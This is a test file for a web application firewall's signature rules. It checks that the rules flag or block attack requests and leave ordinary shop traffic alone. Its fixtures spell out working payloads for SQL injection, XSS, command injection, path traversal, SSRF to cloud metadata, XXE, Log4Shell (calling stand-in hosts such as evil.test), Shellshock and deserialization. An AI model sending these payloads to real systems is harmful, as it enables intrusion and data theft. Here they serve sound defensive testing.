import { beforeAll, describe, expect, it } from 'vitest';
import { fileURLToPath } from 'node:url';
import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { RequestSpec } from './fixtures.js';
import { buildInspection } from './fixtures.js';

const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
const BROWSER: Array<[string, string]> = [
  ['Host', 'shop.example.com'],
  ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36'],
  ['Accept', 'text/html,application/xhtml+xml'],
  ['Cookie', 'session=3f9a1c; theme=dark'],
];

let gate: CompiledSignatureGate;

beforeAll(async () => {
  const loaded = await loadRuleSet([RULES]);
  gate = loaded.gate;
  expect(loaded.report.entries.filter((e) => e.status !== 'accepted')).toEqual([]);
});

const sids = (spec: RequestSpec): number[] => gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).hits.map((h) => h.sid);

describe('bundled warden.rules', () => {
  it('loads with zero rejections and zero warnings, all in the 9000000-9099999 range', async () => {
    const { report, rules } = await loadRuleSet([RULES]);
    expect(report.entries.every((e) => e.status === 'accepted')).toBe(true);
    expect(rules.every((r) => r.sid >= 9000000 && r.sid <= 9099999 && r.msg.length > 0 && r.classtype !== null)).toBe(true);
  });

  it.each<[string, RequestSpec]>([
    ['UNION SELECT', { url: '/item?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--' }],
    ["' OR '1'='1", { url: "/login?user=admin'%20OR%20'1'='1" }],
    ['time-based blind', { url: '/item?id=1;WAITFOR%20DELAY%20%270:0:5%27' }],
    ['form-body SQLi', { method: 'POST', url: '/login', body: "user=admin'+or+1%3d1--&pass=x" }],
    ['reflected XSS', { url: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' }],
    ['event-handler XSS', { url: '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E' }],
    ['command injection', { url: '/ping?host=127.0.0.1;cat%20/etc/passwd' }],
    ['path traversal', { url: '/download?file=../../../../etc/passwd' }],
    ['encoded traversal', { url: '/static/..%2f..%2f..%2fwindows/win.ini' }],
    ['SSRF to metadata', { url: '/fetch?url=http://169.254.169.254/latest/meta-data/' }],
    ['XXE', { method: 'POST', url: '/xml', body: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>' }],
    ['SSTI', { url: '/hello?name=%7B%7B7*7%7D%7D' }],
    ['Log4Shell in a header', { headers: [...BROWSER, ['X-Api-Version', '${jndi:ldap://evil.test/a}']] }],
    ['obfuscated Log4Shell', { headers: [...BROWSER, ['User-Agent', '${${::-j}${::-n}di:rmi://x.test/a}']] }],
    ['Shellshock', { headers: [...BROWSER, ['Referer', '() { :; }; /bin/bash -c "id"']] }],
    ['Java deserialization', { method: 'POST', url: '/api', body: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' }],
    ['PHP object injection', { method: 'POST', url: '/api', body: 'data=O:8:"stdClass":1:{s:1:"a";s:1:"b";}' }],
    ['PHP object injection in a JSON string', { method: 'POST', url: '/api', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"data":"O:8:\\"stdClass\\":0:{}"}' }],
    ['scanner UA', { headers: [['Host', 'x'], ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']] }],
    ['NoSQL operator', { url: '/login?user=admin&pass[$ne]=1' }],
    ['.git probe', { url: '/.git/config' }],
  ])('fires on %s', (_name, spec) => {
    expect(sids(spec).length).toBeGreaterThan(0);
  });

  // 9000114/9000115 are drop rules: they block alone, so they must be exact about the breakout.
  it.each<[string, RequestSpec]>([
    ['a search phrase', { url: "/search?q=shoes'%3B%20DROP%20TABLE%20orders%3B--" }],
    ['a paren and a comment', { url: "/item?id=1')%3B/**/DELETE%20FROM%20users--" }],
    ['a form field', { method: 'POST', url: '/login', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body: "user=bob%27%3B+SHUTDOWN%3B--&pass=x" }],
    ['a JSON string', { method: 'POST', url: '/api', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"q":"x\'; exec master..xp_cmdshell \'dir\'--"}' }],
  ])('blocks a quote breakout with a destructive stacked statement in %s', (_name, spec) => {
    expect(sids(spec).some((sid) => sid === 9000114 || sid === 9000115)).toBe(true);
  });

  it.each<[string, RequestSpec]>([
    ['a query', { url: '/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' }],
    ['a JSON body, decimal address', { method: 'POST', url: '/api/hooks', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"callback":"http:\\/\\/2852039166\\/latest\\/meta-data\\/"}' }],
    ['a form field, GCP', { method: 'POST', url: '/preview', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body: 'link=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F' }],
  ])('blocks a cloud metadata URL in %s', (_name, spec) => {
    expect(sids(spec)).toContain(9000504);
  });

  it.each<[string, RequestSpec]>([
    ['prose naming the address', { url: '/search?q=why+is+169.254.169.254+unreachable' }],
    ['a longer address that starts the same', { url: '/fetch?url=http%3A%2F%2F169.254.169.2540.example.com%2F' }],
  ])('does not block %s as a metadata URL', (_name, spec) => {
    expect(sids(spec)).not.toContain(9000504);
  });

  it.each<[string, RequestSpec]>([
    ['an SQL script with inserts', { method: 'POST', url: '/gist', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"code":"INSERT INTO users VALUES (\'bob\'); INSERT INTO users VALUES (\'eve\');"}' }],
    ['prose about dropping a table', { url: '/search?q=how+to+drop+table+in+postgres%3B+delete+from+where' }],
    ['an apostrophe then a semicolon', { url: "/search?q=it's%3B+drop+the+table+by+the+door" }],
  ])('does not drop %s', (_name, spec) => {
    expect(sids(spec).filter((sid) => sid === 9000114 || sid === 9000115)).toEqual([]);
  });

  it.each<[string, RequestSpec]>([
    ['home page', { url: '/' }],
    ['product page with query', { url: '/products/42?ref=home&sort=price_asc&page=2' }],
    ['search', { url: '/search?q=blue+running+shoes+size+42' }],
    ['static asset', { url: '/assets/app.3f9a1c.js' }],
    ['JSON API POST', { method: 'POST', url: '/api/orders', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"customer":"Alice Martin","email":"alice@example.com","items":[{"sku":"A-1","qty":2}],"note":"Leave at the door, thanks!"}' }],
    ['login form', { method: 'POST', url: '/login', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body: 'username=alice&password=correct+horse+battery&remember=on' }],
  ])('stays quiet on %s', (_name, spec) => {
    expect(sids(spec)).toEqual([]);
  });
});
